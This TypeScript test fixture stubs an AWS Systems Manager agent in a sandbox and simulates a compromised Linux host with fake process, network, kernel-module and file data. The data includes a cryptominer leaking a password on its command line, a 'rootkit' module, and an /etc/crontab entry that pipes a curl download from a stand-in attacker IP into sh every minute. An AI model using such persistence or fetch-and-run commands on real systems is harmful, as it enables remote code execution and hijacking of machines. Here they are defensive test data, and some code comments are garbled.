import { toolOnHost } from './memory-tool.ts';
import type { Sandbox } from './sandbox.ts';

/** What stands on the played instance: nothing of it is on the machine that plays. Some of it is secret, and must be seen nowhere but in the vault. */
export const secretOnHost = 'hunter2-on-the-command-line';

/** For the processor that others have no tool is configured: memory is copied only where a play is about that. */
export const copiable = { uname: 'echo x86_64' } as const;

const programs = {
  ps: `case "$*" in *args=*) printf '  1 0 root Mon Nov 30 09:00:00 2026 /sbin/init\\n 66 1 www Mon Nov 30 10:00:00 2026 miner --pass ${secretOnHost}\\n' ;; *) printf '  1 0 root Mon Nov 30 09:00:00 2026 init\\n 66 1 www Mon Nov 30 10:00:00 2026 miner\\n' ;; esac`,
  ss: `echo 'tcp ESTAB 0 0 10.0.0.5:51544 198.51.100.9:3333 users:(("miner",pid=66,fd=3))'`,
  who: `echo 'ec2-user pts/0 2026-11-30 09:58 (198.51.100.9)'`,
  last: 'true',
  uname: 'echo riscv64',
  systemctl: `echo 'Mon 2026-11-30 11:00:00 UTC 1h left n/a n/a logrotate.timer logrotate.service'`,
};
const files = {
  '/proc/mounts': '/dev/nvme0n1p1 / xfs rw 0 0\nproc /proc proc rw 0 0\n',
  '/proc/modules': 'ena 1 0 - Live 0x0\nrootkit 1 0 - Live 0x0\n',
  '/proc/meminfo': 'MemTotal:         486024 kB\n',
  [toolOnHost.path]: toolOnHost.text,
  '/etc/crontab': `* * * * * www curl -u thief:${secretOnHost} http://198.51.100.9/x | sh\n`,
};

export interface Managed {
  readonly ping?: string;
  readonly platform?: 'Linux' | 'Windows';
  readonly more?: Readonly<Record<string, string>>;
}

/** Puts an agent of Systems Manager on an instance, as an image of Amazon Linux has one. More programs and files stand beside or in place of those. */
export async function manage(
  { post, accounts }: Sandbox,
  instanceId: string,
  { ping = 'Online', platform = 'Linux', more = {} }: Managed = {},
): Promise<void> {
  const agent = { account: accounts.member, instanceId, ping, platform, programs: { ...programs, ...more }, files };
  await post('/_sandbox/agent', agent);
}
